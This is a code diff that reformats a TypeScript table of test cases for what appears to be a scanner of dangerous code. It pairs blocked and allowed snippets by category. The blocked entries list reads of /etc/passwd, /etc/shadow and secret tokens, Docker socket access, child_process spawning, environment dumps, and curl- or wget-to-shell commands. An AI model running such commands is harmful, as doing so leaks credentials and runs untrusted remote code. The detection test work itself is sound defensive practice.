@@ -55,11 +55,21 @@ const CASES: Record<string, Cases> = {
     allowed: ['<li>Bitcoin and Monero prices</li>', '// the upper stratum of the page', "const game = 'mining: dig for gold';"],
   },
   system_file_access: {
-    blocked: ["open('/etc/passwd')", "fs.readFileSync('/etc/shadow', 'utf8')", 'f = open("/var/run/secrets/token")', "new Docker({ socketPath: '/var/run/docker.sock' });"],
+    blocked: [
+      "open('/etc/passwd')",
+      "fs.readFileSync('/etc/shadow', 'utf8')",
+      'f = open("/var/run/secrets/token")',
+      "new Docker({ socketPath: '/var/run/docker.sock' });",
+    ],
     allowed: ["window.open('/about');", "fs.readFileSync('data/etc/notes.json', 'utf8')", '<a href="/etc">Et cetera</a>'],
   },
   child_process: {
-    blocked: ["const { exec } = require('child_process');", "import { spawn } from 'node:child_process';", 'await import("child_process");', "process.binding('spawn_sync');"],
+    blocked: [
+      "const { exec } = require('child_process');",
+      "import { spawn } from 'node:child_process';",
+      'await import("child_process");',
+      "process.binding('spawn_sync');",
+    ],
     allowed: ['<p>Each worker runs as a child process.</p>', 'const childProcesses = [];', 'process.exit(0);'],
   },
   dynamic_code: {
@@ -94,7 +104,12 @@ const CASES: Record<string, Cases> = {
       'cat /proc/self/environ',
       'printenv > env.txt',
     ],
-    allowed: ['const port = process.env.PORT || 3000;', "const key = process.env['API_KEY'];", 'const { PORT = 3000 } = process.env;', "if ('PORT' in process.env) start();"],
+    allowed: [
+      'const port = process.env.PORT || 3000;',
+      "const key = process.env['API_KEY'];",
+      'const { PORT = 3000 } = process.env;',
+      "if ('PORT' in process.env) start();",
+    ],
   },
   write_outside_project: {
     blocked: [
@@ -122,7 +137,12 @@ const CASES: Record<string, Cases> = {
     allowed: ['chmod +x scripts/build.sh', 'chmod 644 public/index.html'],
   },
   pipe_to_shell: {
-    blocked: ['curl -fsSL https://get.example.sh | sh', 'wget -qO- https://x.example/i | sudo bash', 'bash <(curl -s https://x.example/i)', 'sh -c "$(curl -fsSL https://x.example/i)"'],
+    blocked: [
+      'curl -fsSL https://get.example.sh | sh',
+      'wget -qO- https://x.example/i | sudo bash',
+      'bash <(curl -s https://x.example/i)',
+      'sh -c "$(curl -fsSL https://x.example/i)"',
+    ],
     allowed: ['curl -s https://api.example.com/items | jq .', '// curly braces wrap the block', 'fetch(url).then((r) => r.json());'],
   },
   trojan_source: {
